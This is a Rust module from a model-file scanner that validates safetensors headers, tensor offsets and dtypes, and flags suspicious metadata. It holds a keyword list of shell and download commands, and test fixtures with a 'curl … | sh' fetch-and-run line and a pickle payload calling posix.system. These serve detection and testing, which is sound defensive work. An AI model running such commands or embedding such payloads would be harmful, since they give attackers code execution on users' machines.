//! safetensors files, validated the way the `safetensors` library validates them, and stricter
//! where readers disagree.
//!
//! An 8-byte little-endian header length, a JSON header `{name: {dtype, shape, data_offsets},
//! "__metadata__": {str: str}}` (possibly padded with spaces), then the data section. Checked:
//! the header length (≤ 100 MB and inside the file), valid UTF-8 JSON starting with `{`, no
//! duplicate keys at any level (serde_json and Python's `json` both keep the last one silently,
//! other parsers the first: a parser differential), known dtypes, shapes whose element counts do
//! not overflow, and data offsets that are sorted, contiguous, cover the data section exactly and
//! match `prod(shape) × dtype size`. Metadata values that hold code, shell commands or URLs are
//! noted (safetensors never runs them; tools downstream might). Bytes after the last tensor are
//! scanned by content as trailing data.

use crate::driver::{Driver, Rest};
use crate::inventory::{Detail, Node, Note, NoteKind};
use crate::stream::Stream;
use serde::Serialize;
use serde::de::{Deserialize, Deserializer, MapAccess, SeqAccess, Visitor};
use std::collections::{BTreeMap, HashSet};
use std::fmt;

const MAX_HEADER: u64 = crate::limits::Limits::SAFETENSORS_HEADER;
const MAX_HEADER_VALUES: usize = crate::limits::Limits::SAFETENSORS_HEADER_VALUES;
const MAX_NOTES: usize = crate::limits::Limits::SAFETENSORS_NOTES;
const KEEP_METADATA: usize = crate::limits::Limits::SAFETENSORS_METADATA_KEPT;
const KEEP_METADATA_VALUE: usize = crate::limits::Limits::SAFETENSORS_METADATA_VALUE_KEPT;

/// Bits per element of each dtype the `safetensors` library knows (0.6+).
fn dtype_bits(dtype: &str) -> Option<u64> {
    Some(match dtype {
        "F4" => 4,
        "F6_E2M3" | "F6_E3M2" => 6,
        "BOOL" | "U8" | "I8" | "F8_E5M2" | "F8_E4M3" | "F8_E4M3FNUZ" | "F8_E5M2FNUZ" | "F8_E8M0" => 8,
        "I16" | "U16" | "F16" | "BF16" => 16,
        "I32" | "U32" | "F32" => 32,
        "I64" | "U64" | "F64" | "C64" => 64,
        _ => return None,
    })
}

/// What the inventory (and the BOM) records about a safetensors file.
#[derive(Debug, Clone, Default, Serialize, serde::Deserialize)]
#[serde(default)]
pub struct SafetensorsInfo {
    /// Header length in bytes.
    pub header_len: u64,
    /// Tensors.
    pub tensor_count: u64,
    /// Elements in all tensors (the parameter count).
    pub parameter_count: u64,
    /// Tensors per dtype.
    pub dtypes: BTreeMap<String, u64>,
    /// `__metadata__`, values cut to a few hundred characters.
    pub metadata: BTreeMap<String, String>,
}

/// JSON that keeps every key of an object, duplicates included, in order.
#[derive(Debug, Clone, PartialEq)]
enum Json {
    Null,
    Bool(bool),
    Num(serde_json::Number),
    Str(String),
    Arr(Vec<Json>),
    Obj(Vec<(String, Json)>),
}

impl<'de> Deserialize<'de> for Json {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Json, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Json;
            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("JSON")
            }
            fn visit_unit<E>(self) -> Result<Json, E> {
                Ok(Json::Null)
            }
            fn visit_bool<E>(self, v: bool) -> Result<Json, E> {
                Ok(Json::Bool(v))
            }
            fn visit_u64<E>(self, v: u64) -> Result<Json, E> {
                Ok(Json::Num(v.into()))
            }
            fn visit_i64<E>(self, v: i64) -> Result<Json, E> {
                Ok(Json::Num(v.into()))
            }
            fn visit_f64<E>(self, v: f64) -> Result<Json, E> {
                Ok(serde_json::Number::from_f64(v).map_or(Json::Null, Json::Num))
            }
            fn visit_str<E>(self, v: &str) -> Result<Json, E> {
                Ok(Json::Str(v.to_string()))
            }
            fn visit_string<E>(self, v: String) -> Result<Json, E> {
                Ok(Json::Str(v))
            }
            fn visit_seq<A: SeqAccess<'de>>(self, mut a: A) -> Result<Json, A::Error> {
                let mut out = Vec::new();
                while let Some(x) = a.next_element()? {
                    out.push(x);
                }
                Ok(Json::Arr(out))
            }
            fn visit_map<A: MapAccess<'de>>(self, mut a: A) -> Result<Json, A::Error> {
                let mut out = Vec::new();
                while let Some((k, v)) = a.next_entry::<String, Json>()? {
                    out.push((k, v));
                }
                Ok(Json::Obj(out))
            }
        }
        d.deserialize_any(V)
    }
}

/// The first duplicated key in any object, with the path to it.
fn duplicate_key(j: &Json, path: &str) -> Option<String> {
    match j {
        Json::Obj(entries) => {
            let mut seen = HashSet::new();
            for (k, v) in entries {
                let here = if path.is_empty() { k.clone() } else { format!("{path}.{k}") };
                if !seen.insert(k.as_str()) {
                    return Some(here);
                }
                if let Some(d) = duplicate_key(v, &here) {
                    return Some(d);
                }
            }
            None
        }
        Json::Arr(items) => items.iter().find_map(|v| duplicate_key(v, path)),
        _ => None,
    }
}

fn get<'j>(entries: &'j [(String, Json)], key: &str) -> Option<&'j Json> {
    entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
}

fn as_u64(j: &Json) -> Option<u64> {
    match j {
        Json::Num(n) => n.as_u64(),
        _ => None,
    }
}

struct Tensor {
    name: String,
    start: u64,
    end: u64,
    bytes: u64,
}

/// The strong structural test the sniffer applies before any trial pickle parse
/// (docs/formats.md, "Recognition"): a header length within the library's limit (and the file,
/// when its length is known), then a JSON object. When the whole header is in `head` it must
/// parse, and every tensor's `data_offsets` must fit the file; a longer header must at least
/// start as a JSON object with a key, in valid UTF-8 without control bytes. A header length whose
/// first byte is 0x80 then never makes the file a pickle.
pub(crate) fn is_structural(head: &[u8], total: Option<u64>) -> bool {
    if head.len() < 10 {
        return false;
    }
    let n = u64::from_le_bytes([head[0], head[1], head[2], head[3], head[4], head[5], head[6], head[7]]);
    if !(2..=MAX_HEADER).contains(&n) || head[8] != b'{' || total.is_some_and(|t| n > t.saturating_sub(8)) {
        return false;
    }
    let end = 8 + n as usize;
    let Some(header) = head.get(8..end) else {
        let visible = &head[8..];
        let text = match std::str::from_utf8(visible) {
            Ok(t) => t,
            Err(e) if e.error_len().is_none() => {
                std::str::from_utf8(&visible[..e.valid_up_to()]).unwrap_or("")
            }
            Err(_) => return false,
        };
        return text[1..].trim_start().starts_with('"')
            && !text.bytes().any(|b| b < 0x20 && !b" \t\r\n".contains(&b));
    };
    let Ok(serde_json::Value::Object(map)) = serde_json::from_slice::<serde_json::Value>(header) else {
        return false;
    };
    let data_len = total.map(|t| t - 8 - n);
    map.iter().filter(|(k, _)| k.as_str() != "__metadata__").all(|(_, v)| {
        let offsets = v.get("data_offsets").and_then(|o| o.as_array());
        match offsets.map(|o| o.iter().map(serde_json::Value::as_u64).collect::<Vec<_>>()).as_deref() {
            Some([Some(a), Some(b)]) => a <= b && data_len.is_none_or(|d| *b <= d),
            _ => false,
        }
    })
}

pub(crate) fn scan(s: &mut Stream<'_>, _ctx: &mut dyn Driver, node: &mut Node) -> Rest {
    let mut info = SafetensorsInfo::default();
    let mut notes = Vec::new();
    let rest = parse(s, &mut info, &mut notes);
    crate::inventory::cap_notes(&mut notes, MAX_NOTES, NoteKind::SafetensorsMalformed, "safetensors");
    node.notes.extend(notes);
    node.detail = Detail::Safetensors(Box::new(info));
    rest
}

fn malformed(what: impl Into<String>, at: u64) -> Note {
    Note::new(NoteKind::SafetensorsMalformed, format!("safetensors: {}", what.into())).at(at)
}

fn parse(s: &mut Stream<'_>, info: &mut SafetensorsInfo, notes: &mut Vec<Note>) -> Rest {
    let total = s.window().map(|w| w.len());
    let Ok(Some(len)) = s.read_array::<8>() else {
        notes.push(malformed("the file ends inside the header length", 0));
        return Rest::Drain;
    };
    let n = u64::from_le_bytes(len);
    info.header_len = n;
    if n > MAX_HEADER {
        notes.push(malformed(
            format!("header length {n} is over the library's limit of {MAX_HEADER} bytes"),
            0,
        ));
        return Rest::Drain;
    }
    if let Some(total) = total
        && n > total.saturating_sub(8)
    {
        notes.push(malformed(format!("header length {n} is past the end of the {total}-byte file"), 0));
        return Rest::Drain;
    }
    let raw = match s.read_vec(n as usize) {
        Ok(v) if v.len() as u64 == n => v,
        _ => {
            notes.push(malformed(format!("header length {n} is past the end of the file"), 0));
            return Rest::Drain;
        }
    };
    let text = match std::str::from_utf8(&raw) {
        Ok(t) => t,
        Err(e) => {
            notes.push(malformed(format!("the header is not UTF-8 ({e})"), 8));
            return Rest::Drain;
        }
    };
    // Each JSON value costs tens of bytes in memory; a header of millions of tiny values is an
    // attack on the parser, not a model (real headers hold a few per tensor).
    let separators = raw.iter().filter(|&&b| matches!(b, b',' | b':' | b'[')).count();
    if separators > MAX_HEADER_VALUES {
        notes.push(malformed(
            format!("the header holds more than {MAX_HEADER_VALUES} JSON values; not parsed"),
            8,
        ));
        return Rest::Drain;
    }
    if !text.starts_with('{') {
        notes.push(malformed("the header does not start with `{`", 8));
        return Rest::Drain;
    }
    let json: Json = match serde_json::from_str(text) {
        Ok(j) => j,
        Err(e) => {
            notes.push(malformed(format!("the header is not valid JSON: {e}"), 8));
            return Rest::Drain;
        }
    };
    if let Some(key) = duplicate_key(&json, "") {
        notes.push(
            malformed(
                format!("the header has the key {key:?} twice; readers disagree on which one counts"),
                8,
            )
            .evidence(key),
        );
    }
    let Json::Obj(entries) = json else {
        notes.push(malformed("the header is not a JSON object", 8));
        return Rest::Drain;
    };
    let mut tensors = Vec::new();
    let mut seen = HashSet::new();
    for (name, value) in &entries {
        if !seen.insert(name.as_str()) {
            continue;
        }
        if name == "__metadata__" {
            metadata(value, info, notes);
            continue;
        }
        match tensor(name, value) {
            Ok(t) => {
                if let Json::Obj(fields) = value
                    && let Some(Json::Str(dtype)) = get(fields, "dtype")
                {
                    *info.dtypes.entry(dtype.clone()).or_default() += 1;
                }
                info.parameter_count = info.parameter_count.saturating_add(t.1);
                tensors.push(t.0);
            }
            Err(why) => notes.push(malformed(format!("tensor {name:?}: {why}"), 8).evidence(name.clone())),
        }
    }
    info.tensor_count = tensors.len() as u64;
    // Offsets: sorted, contiguous from 0, each the size its dtype and shape say.
    tensors.sort_by_key(|t| (t.start, t.end));
    let mut expected = 0u64;
    for t in &tensors {
        if t.start != expected {
            let why = if t.start < expected {
                "overlaps the tensor before it"
            } else {
                "leaves a gap of unaccounted bytes before it"
            };
            notes.push(
                malformed(
                    format!(
                        "tensor {:?} starts at {} but the data before it ends at {expected}: it {why}",
                        t.name, t.start
                    ),
                    8,
                )
                .evidence(t.name.clone()),
            );
        }
        if t.end - t.start != t.bytes {
            notes.push(
                malformed(
                    format!(
                        "tensor {:?} spans {} bytes but its dtype and shape need {}",
                        t.name,
                        t.end - t.start,
                        t.bytes
                    ),
                    8,
                )
                .evidence(t.name.clone()),
            );
        }
        expected = expected.max(t.end);
    }
    let data_at = s.position();
    match s.skip(expected) {
        Ok(got) if got == expected => {}
        Ok(got) => {
            notes.push(malformed(
                format!("the tensors need {expected} bytes of data but the file has {got}"),
                data_at,
            ));
            return Rest::Drain;
        }
        Err(e) => {
            notes.push(malformed(format!("read error: {e}"), data_at));
            return Rest::Drain;
        }
    }
    if matches!(s.at_eof(), Ok(false)) {
        notes.push(malformed(
            format!("bytes follow the last tensor at offset {}; the library rejects the file", s.position()),
            s.position(),
        ));
    }
    Rest::Trailing
}

/// Checks one tensor entry; returns it and its element count.
fn tensor(name: &str, value: &Json) -> Result<(Tensor, u64), String> {
    let Json::Obj(fields) = value else {
        return Err("its entry is not an object".into());
    };
    let dtype = match get(fields, "dtype") {
        Some(Json::Str(d)) => d,
        _ => return Err("no dtype string".into()),
    };
    let bits = dtype_bits(dtype).ok_or_else(|| format!("unknown dtype {dtype:?}"))?;
    let Some(Json::Arr(shape)) = get(fields, "shape") else {
        return Err("no shape list".into());
    };
    let mut elements = 1u64;
    for d in shape {
        let d = as_u64(d).ok_or("a shape entry is not a non-negative integer")?;
        elements = elements.checked_mul(d).ok_or("its element count overflows 64 bits")?;
    }
    let Some(Json::Arr(offsets)) = get(fields, "data_offsets") else {
        return Err("no data_offsets list".into());
    };
    let (Some(start), Some(end), 2) =
        (offsets.first().and_then(as_u64), offsets.get(1).and_then(as_u64), offsets.len())
    else {
        return Err("data_offsets is not two non-negative integers".into());
    };
    if end < start {
        return Err(format!("data_offsets end {end} is before its start {start}"));
    }
    let total_bits = elements.checked_mul(bits).ok_or("its size overflows 64 bits")?;
    if !total_bits.is_multiple_of(8) {
        return Err(format!("{elements} elements of {dtype} do not fill whole bytes"));
    }
    Ok((Tensor { name: name.to_string(), start, end, bytes: total_bits / 8 }, elements))
}

/// Strings in metadata that suggest code, commands or downloads.
const SUSPICIOUS: &[&str] = &[
    "http://",
    "https://",
    "ftp://",
    "file://",
    "import ",
    "__import__",
    "eval(",
    "exec(",
    "os.system",
    "subprocess",
    "popen",
    "rm -rf",
    "curl ",
    "wget ",
    "chmod ",
    "bash -c",
    "sh -c",
    "powershell",
    "<script",
    "base64 -d",
    "| sh",
    "|sh",
];

fn metadata(value: &Json, info: &mut SafetensorsInfo, notes: &mut Vec<Note>) {
    let Json::Obj(entries) = value else {
        notes.push(malformed("__metadata__ is not an object of strings", 8));
        return;
    };
    let mut flagged = 0;
    for (k, v) in entries {
        let Json::Str(v) = v else {
            notes.push(malformed(format!("__metadata__ value {k:?} is not a string"), 8).evidence(k.clone()));
            continue;
        };
        if info.metadata.len() < KEEP_METADATA {
            info.metadata.insert(k.clone(), v.chars().take(KEEP_METADATA_VALUE).collect());
        }
        let lower = format!("{k} {v}").to_lowercase();
        if let Some(hit) = SUSPICIOUS.iter().find(|p| lower.contains(*p))
            && flagged < 20
        {
            flagged += 1;
            notes.push(
                Note::new(
                    NoteKind::SafetensorsMetadata,
                    format!("__metadata__ {k:?} holds {hit:?}: code, a command or a URL in a weights file's metadata"),
                )
                .at(8)
                .evidence(v.chars().take(200).collect::<String>()),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Format, Options, scan_bytes};

    fn file(header: &str, data_len: usize) -> Vec<u8> {
        let mut h = header.as_bytes().to_vec();
        while !h.len().is_multiple_of(8) {
            h.push(b' ');
        }
        let mut out = (h.len() as u64).to_le_bytes().to_vec();
        out.extend(h);
        out.extend(std::iter::repeat_n(7u8, data_len));
        out
    }

    fn kinds(node: &Node) -> Vec<NoteKind> {
        node.notes.iter().map(|n| n.kind).collect()
    }

    const GOOD: &str = r#"{"__metadata__":{"format":"pt"},"b":{"dtype":"F16","shape":[2,2],"data_offsets":[16,24]},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}"#;

    #[test]
    fn a_valid_file_is_inventoried() {
        let data = file(GOOD, 24);
        let root = scan_bytes(&data, Options::default());
        assert_eq!(root.format, Format::Safetensors);
        assert!(root.notes.is_empty(), "{:?}", root.notes);
        let Detail::Safetensors(i) = &root.detail else { panic!("{:?}", root.detail) };
        assert_eq!((i.tensor_count, i.parameter_count), (2, 8));
        assert_eq!(i.dtypes.get("F16"), Some(&1));
        assert_eq!(i.metadata.get("format").map(String::as_str), Some("pt"));
        assert_eq!(root.size, data.len() as u64);
        let fwd = crate::scan_reader(&data[..], Options::default()).unwrap();
        assert!(fwd.notes.is_empty());
    }

    #[test]
    fn malformed_headers_and_offsets() {
        let cases = [
            (
                r#"{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}"#,
                16,
                "twice",
            ),
            (
                r#"{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}}"#,
                24,
                "overlaps",
            ),
            (
                r#"{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[1],"data_offsets":[20,24]}}"#,
                24,
                "gap",
            ),
            (r#"{"a":{"dtype":"F32","shape":[5],"data_offsets":[0,16]}}"#, 16, "need"),
            (r#"{"a":{"dtype":"X9","shape":[4],"data_offsets":[0,16]}}"#, 16, "unknown dtype"),
            (
                r#"{"a":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,16]}}"#,
                16,
                "overflow",
            ),
            (r#"{"a":{"dtype":"F4","shape":[3],"data_offsets":[0,1]}}"#, 1, "whole bytes"),
            (r#"{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}"#, 20, "follow"),
            (r#"{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}"#, 8, "need 16"),
            (r#"{"__metadata__":{"x":1}}"#, 0, "not a string"),
            (r#"{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}"#, 16, "not valid JSON"),
        ];
        for (header, data, want) in cases {
            let root = scan_bytes(&file(header, data), Options::default());
            assert!(
                root.notes
                    .iter()
                    .any(|n| n.kind == NoteKind::SafetensorsMalformed && n.detail.contains(want)),
                "{want}: {:?}",
                root.notes
            );
        }
        // Millions of tiny values.
        let many = format!("{{\"__metadata__\":{{}},\"a\":[{}0]}}", "0,".repeat(5 << 20));
        let root = scan_bytes(&file(&many, 0), Options::default());
        assert!(root.notes[0].detail.contains("JSON values"), "{:?}", root.notes);
        // Header length past the end.
        let mut data = file(GOOD, 24);
        data[..8].copy_from_slice(&1000u64.to_le_bytes());
        assert_eq!(kinds(&scan_bytes(&data, Options::default())), vec![NoteKind::SafetensorsMalformed]);
    }

    #[test]
    fn metadata_with_code_and_trailing_payloads() {
        let header = r#"{"__metadata__":{"note":"run: curl https://x.example/p | sh"},"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}"#;
        let root = scan_bytes(&file(header, 0), Options::default());
        assert_eq!(kinds(&root), vec![NoteKind::SafetensorsMetadata]);
        let mut data = file(GOOD, 24);
        data.extend_from_slice(b"\x80\x02cposix\nsystem\nq\x00.");
        let root = scan_bytes(&data, Options::default());
        assert!(kinds(&root).contains(&NoteKind::TrailingData));
        assert!(kinds(&root).contains(&NoteKind::SafetensorsMalformed));
    }
}
